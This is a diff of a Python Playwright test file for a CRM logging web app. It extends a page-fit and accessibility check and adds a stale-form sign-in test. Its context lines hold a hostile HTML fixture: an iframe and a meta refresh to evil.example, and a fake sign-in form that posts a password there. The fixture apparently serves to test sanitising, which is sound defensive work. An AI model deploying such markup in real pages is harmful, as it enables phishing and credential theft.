@@ -24,7 +24,19 @@ HOSTILE = """
 <iframe src="https://evil.example/frame"></iframe><meta http-equiv="refresh" content="0;url=https://evil.example/m">
 <form action="https://evil.example/post"><input name="password"><button>Sign in</button></form>
 """
-PAGES = ("/contacts", "/contacts?q=offer", "/contacts/1", "/mails/1", "/not-logged", "/settings", "/status")
+PAGES = (
+    "/contacts",
+    "/contacts?q=offer",
+    "/contacts?q=nothing-like-it",
+    "/contacts/1",
+    "/contacts/1/conversations/1",
+    "/mails/1",
+    "/not-logged",
+    "/not-logged?day=2001-01-01",
+    "/settings",
+    "/status",
+    "/nowhere",
+)
 
 
 def test_the_copy_button_puts_the_address_on_the_clipboard(window: Window, week: House) -> None:
@@ -130,6 +142,8 @@ def test_every_page_fits_and_is_accessible(
     week.take(
         mail(to_log=next(iter(week.log.values())), headers=(("List-Id", "<a.b>"),), subject="Word" * 60)
     )
+    longest = f"Eve <{'eve.' * 12}eve@gmail.com>"
+    week.take(mail(to_log=next(iter(week.log.values())), author=longest, subject="W" * 150))
     with week.store.writing():
         from crm_logger.store.alarms import raise_alarm  # noqa: PLC0415 -- one line of a test
 
@@ -145,10 +159,24 @@ def test_every_page_fits_and_is_accessible(
             page = window.open(address)
             for summary in page.locator("details > summary").all()[:4]:
                 summary.click()
-            assert page.evaluate("document.documentElement.scrollWidth") <= width, address
-            assert violations(page, script) == [], address
+            look_over(page, script, width)
         background = window.page.evaluate("getComputedStyle(document.body).backgroundColor")
         assert (background == "rgb(18, 21, 27)") is (scheme == "dark")
+        window.page.context.clear_cookies()
+        look_over(window.open("/sign-in/ended"), script, width)
+        page = window.open("/sign-in")
+        look_over(page, script, width)
+        page.locator("main [name=form_token]").evaluate("field => field.value = 'old'")
+        page.get_by_label("Your mail address").fill("ann@acme.test")
+        page.get_by_label("Password").fill("a long enough one")
+        page.get_by_role("button", name="Sign in").click()
+        page.get_by_role("heading", name="That form was too old").wait_for()
+        look_over(page, script, width)
+
+
+def look_over(page: playwright.Page, script: str, width: int) -> None:
+    assert page.evaluate("document.documentElement.scrollWidth") <= width, page.url
+    assert violations(page, script) == [], page.url
 
 
 def violations(page: playwright.Page, script: str) -> list[str]:
